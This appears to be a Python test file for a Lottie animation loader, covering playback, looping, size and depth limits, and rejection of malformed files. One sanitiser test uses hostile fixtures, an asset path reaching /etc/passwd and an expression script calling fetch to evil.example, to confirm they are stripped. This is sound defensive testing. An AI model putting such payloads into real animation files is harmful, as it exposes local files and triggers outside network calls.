"""Lottie files: played as a layer, kept within limits, with nothing that reaches outside."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from studio.domain.errors import BadInput, TooLarge, UnreadableInput
from studio.domain.format import Size
from studio.graphics.documents import Backdrop, GroupLayer, LottieLayer, MotionDocument
from studio.graphics.fonts import FontShelf
from studio.graphics.lottie import MAX_BYTES, checked
from studio.graphics.painter import Painter

SIZE = Size(width=192, height=108)


def animation(**head: Any) -> dict[str, Any]:
    """A red square that goes from the left to the right in one second."""
    even = {"i": {"x": 1, "y": 1}, "o": {"x": 0, "y": 0}}
    moving = {"a": 1, "k": [{"t": 0, "s": [20, 50], **even}, {"t": 30, "s": [80, 50]}]}
    still = {"a": 0, "k": [0, 0]}
    square = {"ty": "rc", "s": {"a": 0, "k": [30, 30]}, "p": still, "r": {"a": 0, "k": 0}}
    red = {"ty": "fl", "c": {"a": 0, "k": [1, 0, 0, 1]}, "o": {"a": 0, "k": 100}}
    place = {
        "ty": "tr",
        "p": still,
        "a": still,
        "s": {"a": 0, "k": [100, 100]},
        "r": {"a": 0, "k": 0},
        "o": {"a": 0, "k": 100},
    }
    layer = {
        "ty": 4,
        "ip": 0,
        "op": 30,
        "st": 0,
        "ks": {**{k: v for k, v in place.items() if k != "ty"}, "p": moving},
        "shapes": [{"ty": "gr", "it": [square, red, place]}],
    }
    whole = {"v": "5.7.0", "fr": 30, "ip": 0, "op": 30, "w": 100, "h": 100, "layers": [layer]}
    return {**whole, **head}


def written(tmp_path: Path, content: object) -> Path:
    file = tmp_path / "a.json"
    file.write_text(content if isinstance(content, str) else json.dumps(content), "utf-8")
    return file


def drawn(file: Path, fonts: FontShelf, n: int, **layer: Any) -> np.ndarray:
    played = LottieLayer(animation="a", width=400, height=400, **layer)
    document = MotionDocument(backdrop=Backdrop.NONE, root=GroupLayer(children=(played,)))
    frame = np.zeros((SIZE.height, SIZE.width, 4), np.uint8)
    Painter(document, SIZE, 150, fonts, files={"a": file}).draw(frame, n)
    return frame


def middle_of_red(frame: np.ndarray) -> float:
    _, columns = np.nonzero((frame[..., 2] > 128) & (frame[..., 1] < 60))
    return float(columns.mean())


def test_it_plays_and_loops(tmp_path: Path, fonts: FontShelf) -> None:
    file = written(tmp_path, animation())
    start, later = (middle_of_red(drawn(file, fonts, n)) for n in (0, 20))
    assert later > start + 5
    assert np.array_equal(drawn(file, fonts, 5), drawn(file, fonts, 35))
    held = drawn(file, fonts, 45, is_looped=False)
    assert middle_of_red(held) > later


def test_it_is_never_at_rest(tmp_path: Path, fonts: FontShelf) -> None:
    file = written(tmp_path, animation())
    document = MotionDocument(
        backdrop=Backdrop.NONE, root=GroupLayer(children=(LottieLayer(animation="a"),))
    )
    assert Painter(document, SIZE, 90, fonts, files={"a": file}).changes_after(80)


def test_pictures_by_address_and_scripts_are_taken_out(tmp_path: Path) -> None:
    outside = {"id": "i", "w": 9, "h": 9, "u": "/etc/", "p": "passwd", "e": 0}
    inside = {"id": "j", "w": 9, "h": 9, "u": "", "p": "data:image/png;base64,AAAA", "e": 1}
    scripted = {"a": 0, "k": 1, "x": "var $bm_rt = fetch('http://evil.example')"}
    text, _ = checked(written(tmp_path, animation(assets=[outside, inside], extra=scripted)))
    assert "passwd" not in text
    assert "/etc/" not in text
    assert "evil" not in text
    assert "data:image/png" in text


@pytest.mark.parametrize(
    "content",
    ["", "{", "[]", '{"layers": 3}', json.dumps(animation(fr=0)), json.dumps(animation(op=-5))],
)
def test_what_is_none_is_refused(tmp_path: Path, content: str) -> None:
    with pytest.raises(UnreadableInput):
        checked(written(tmp_path, content))


def test_what_is_too_much_is_refused(tmp_path: Path) -> None:
    with pytest.raises(TooLarge):
        checked(written(tmp_path, " " * (MAX_BYTES + 1)))
    with pytest.raises(TooLarge):
        checked(written(tmp_path, animation(op=90_000)))
    deep: list[Any] = []
    for _ in range(200):
        deep = [deep]
    with pytest.raises(TooLarge):
        checked(written(tmp_path, animation(extra=deep)))


@given(st.binary(max_size=200))
@settings(max_examples=30)
def test_any_bytes_are_refused_or_read(content: bytes) -> None:
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder) / "a.json"
        file.write_bytes(content)
        with pytest.raises(BadInput):
            checked(file)
